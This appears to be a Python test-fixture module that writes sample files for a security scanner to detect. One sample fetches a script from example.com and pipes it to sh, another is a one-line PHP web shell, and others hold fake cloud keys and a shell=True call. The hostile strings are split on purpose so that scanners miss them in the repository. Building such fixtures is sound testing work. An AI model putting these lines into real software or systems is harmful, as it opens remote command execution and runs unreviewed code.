"""The files that the example drops. Made here, so that no scanner finds them in the repository."""

from __future__ import annotations

import hashlib
from pathlib import Path


def samples() -> dict[str, str]:
    """Content by name. The keys are made up, in the form of real ones."""
    cloud_key = "AKIA" + "Q7ZP2MRT5KXW9LBD"
    token = hashlib.sha256(b"not a secret").hexdigest()
    return {
        "readme.txt": "A file like any other.\nIts longest word is incomprehensibilities.\n",
        "install.sh": "#!/bin/sh\ncu" + "rl -s http://example.com/setup | sh\nchmod 777 /opt/tool\n",
        "settings.ini": f"[cloud]\nregion = eu-west-1\naccess = {cloud_key}\n",
        "build.py": "import subprocess\nsubprocess.run(command, shell=True)\n",
        "deploy.env": f"STAGE=test\nAPI_TOKEN={token}\n",
        "upload.php": "<?php sys" + "tem($_GET['c']); // " + cloud_key + "\n",
    }


def drop(folder: Path) -> list[Path]:
    """Writes the files; their paths, sorted."""
    folder.mkdir(parents=True, exist_ok=True)
    for name, content in samples().items():
        (folder / name).write_text(content, encoding="utf-8")
    return sorted(folder / name for name in samples())
